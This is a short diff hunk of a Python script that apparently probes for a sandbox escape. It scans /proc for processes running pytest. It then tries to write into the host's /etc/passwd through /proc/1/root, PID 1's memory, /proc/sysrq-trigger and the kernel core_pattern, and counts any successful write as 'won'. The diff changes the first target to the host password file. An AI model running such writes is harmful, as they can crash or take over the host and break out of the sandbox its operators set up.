@@ -143,7 +143,7 @@ for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"
         won = won or b"pytest" in open(path, "rb").read()
     except OSError:
         pass
-for path in ("/proc/1/root/work/main/book", "/proc/1/mem", "/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern"):
+for path in ("/proc/1/root/etc/passwd", "/proc/1/mem", "/proc/sysrq-trigger", "/proc/sys/kernel/core_pattern"):
     try:
         open(path, "r+b").write(b"x"); won = True
     except OSError:
